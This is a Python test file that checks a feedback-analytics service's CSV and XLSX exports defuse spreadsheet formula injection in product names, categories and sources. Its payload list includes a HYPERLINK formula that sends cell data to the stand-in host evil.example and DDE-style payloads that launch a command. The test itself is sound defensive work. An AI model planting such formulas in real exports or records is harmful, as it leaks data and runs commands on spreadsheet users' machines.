"""Spreadsheet formula injection: hostile product names, categories and sources pushed through the API come out
inert in every CSV and XLSX export (API and overview), and exact in JSON and Parquet.

A CRM or a review site controls product names, categories and source names; a spreadsheet runs a cell that
begins with = + - @ tab or CR as a formula. Each such text cell must arrive prefixed with a single quote (OWASP),
as text and never as a formula, while the numbers (negative average sentiment) stay numbers.
"""
from __future__ import annotations

import csv
import io
import json

import openpyxl
import pyarrow.parquet as pq
import pytest

from insight_service.services.aggregates.spreadsheet_cells import FORMULA_STARTS
from tests.records import make_feedback, make_purchase
from tests.services.insight_data import ago
from tests.test_overview import overview_url

AUTHORS = 5  # K_ANONYMITY: every cell must reach k distinct authors to be exported at all
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+31 6 1234 5678", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
API_GROUP = "product,category,source,code"
NUMBERS = ("mentions", "distinct_authors", "share_of_product_feedback", "average_sentiment", "buyers",
           "reporting_buyers", "incidence_among_buyers")


@pytest.fixture
def hostile(client, auth) -> list[str]:
    """One product per dangerous first character: its name, category and feedback source start with it."""
    crm = auth("crm")
    purchases, feedback = [], []
    for n, payload in enumerate(PAYLOADS):
        purchases.append(make_purchase(f"HL{n}", "C1", sku=f"HX-{n}", product_name=f"{payload} name",
                                       category=f"{payload} cat"))
        feedback += [make_feedback(f"hx{n}-{a}", source=f"{payload} src", sku=f"HX-{n}", rating=1,
                                   author={"email": f"auteur{a}@mailbox.nl"}, posted_at=ago(3 + a),
                                   text="Na een week kapot, wat een teleurstelling") for a in range(AUTHORS)]
    for route, records in (("purchases", purchases), ("feedback", feedback)):
        response = client.post(f"/api/v1/{route}", json={"records": records}, headers=crm)
        assert response.status_code == 200 and not response.get_json()["quarantined"], response.get_json()
    return PAYLOADS


def download(client, auth, fmt: str, via: str) -> bytes:
    """An export from the API (grouped by product, category, source and code) or from the overview."""
    if via == "api":
        response = client.get(f"/api/v1/pain-points/export?format={fmt}&group_by={API_GROUP}", headers=auth("rnd"))
    else:
        response = client.get(overview_url(client, auth).replace("/pain-points?", f"/pain-points/export.{fmt}?"))
    assert response.status_code == 200, response.status_code
    return response.get_data()


def csv_records(raw: bytes) -> list[dict]:
    """The data rows of a CSV export (its '#' metadata lines skipped)."""
    body = "".join(line for line in raw.decode().splitlines(keepends=True) if not line.startswith("#"))
    return list(csv.DictReader(io.StringIO(body, newline="")))


@pytest.mark.parametrize("via", ["api", "overview"])
def test_csv_cells_are_inert_and_numbers_stay_numbers(client, auth, hostile, via):
    records = csv_records(download(client, auth, "csv", via))
    assert sorted(r["product_name"] for r in records) == sorted(f"'{p} name" for p in hostile)
    if via == "api":
        assert sorted(r["category"] for r in records) == sorted(f"'{p} cat" for p in hostile)
        assert sorted(r["source"] for r in records) == sorted(f"'{p} src" for p in hostile)
    assert not [v for r in records for c, v in r.items() if c not in NUMBERS and v.startswith(FORMULA_STARTS)]
    assert [float(r[c]) for r in records for c in NUMBERS if r[c]]  # plain numbers: a prefixed one would not parse
    assert all(float(r["average_sentiment"]) < 0 and int(r["mentions"]) == AUTHORS for r in records), records


@pytest.mark.parametrize("via", ["api", "overview"])
def test_xlsx_cells_are_strings_never_formulas(client, auth, hostile, via):
    book = openpyxl.load_workbook(io.BytesIO(download(client, auth, "xlsx", via)))
    rows = list(book["pain_points"].iter_rows())
    header = [cell.value for cell in rows[0]]
    cells = [dict(zip(header, row)) for row in rows[1:]]
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
    assert not [c.value for row in rows for c in row
                if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    # XML reads a CR back as a line feed
    assert sorted(r["product_name"].value for r in cells) == sorted(
        f"'{p} name".replace("\r", "\n") for p in hostile)
    assert all(r["average_sentiment"].data_type == "n" and r["average_sentiment"].value < 0 for r in cells)
    assert all(r["mentions"].data_type == "n" and r["mentions"].value == AUTHORS for r in cells)


def test_json_and_parquet_keep_the_text_exact(client, auth, hostile):
    rows = json.loads(download(client, auth, "json", "api"))["rows"]
    assert sorted((r["product_name"], r["category"], r["source"]) for r in rows) == sorted(
        (f"{p} name", f"{p} cat", f"{p} src") for p in hostile)
    for via in ("api", "overview"):
        table = pq.read_table(io.BytesIO(download(client, auth, "parquet", via)))
        assert sorted(table.column("product_name").to_pylist()) == sorted(f"{p} name" for p in hostile)
        assert all(value < 0 for value in table.column("average_sentiment").to_pylist())
